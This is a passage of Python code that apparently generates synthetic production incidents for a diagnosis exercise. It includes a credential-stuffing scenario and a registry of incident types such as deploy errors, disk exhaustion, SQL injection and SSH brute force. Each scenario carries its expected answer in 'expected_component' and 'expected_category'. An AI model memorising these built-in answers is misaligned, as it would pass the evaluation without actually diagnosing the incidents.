    shape(world, svc.name, "p99", world.onset, lambda v, _m: v * 1.8)
    world.expected_component = [svc.name]
    world.expected_category = "security"
    world.story = (
        f"credential stuffing on /api/login from {len(proxies)} addresses; about 1.5% of attempts succeed"
    )
    _describe(
        world,
        [
            "Login failures spiking",
            "{Svc} latency high",
            "Customers report accounts locked out",
            "Alert: 401 rate on {svc}",
        ],
        svc.name,
    )
    return {svc.name}


INCIDENTS: dict[str, Incident] = {
    i.name: i
    for i in (
        Incident("bad_deploy", "Bad deploy", set(), bad_deploy, "code"),
        Incident("config_flip", "Config flip", set(), config_flip, "code"),
        Incident("migration", "Schema migration", set(), migration, "code"),
        Incident("dependency_bump", "Bad dependency bump", set(), dependency_bump, "code"),
        Incident("feature_flag", "Feature-flag flip", set(), feature_flag, "code"),
        Incident("dependency_outage", "Dependency outage", set(), dependency_outage, "infrastructure"),
        Incident("expired_certificate", "Expired certificate", set(), expired_certificate, "infrastructure"),
        Incident("dns_failure", "DNS failure", {"k8s"}, dns_failure, "infrastructure"),
        Incident("disk_full", "Disk full", set(), disk_full, "infrastructure"),
        Incident("memory_leak_oom", "Memory leak and OOM kill", set(), memory_leak_oom, "infrastructure"),
        Incident("cpu_saturation", "CPU saturation", set(), cpu_saturation, "performance"),
        Incident("traffic_surge", "Traffic surge", set(), traffic_surge, "performance"),
        Incident("pool_exhaustion", "Connection-pool exhaustion", set(), pool_exhaustion, "performance"),
        Incident("lock_contention", "Lock contention", set(), lock_contention, "performance"),
        Incident("brute_force", "SSH brute force with a success", {"bastion"}, brute_force, "security"),
        Incident("sql_injection", "SQL injection", set(), sql_injection, "security"),
        Incident("credential_stuffing", "Credential stuffing", {"login"}, credential_stuffing, "security"),
    )
}
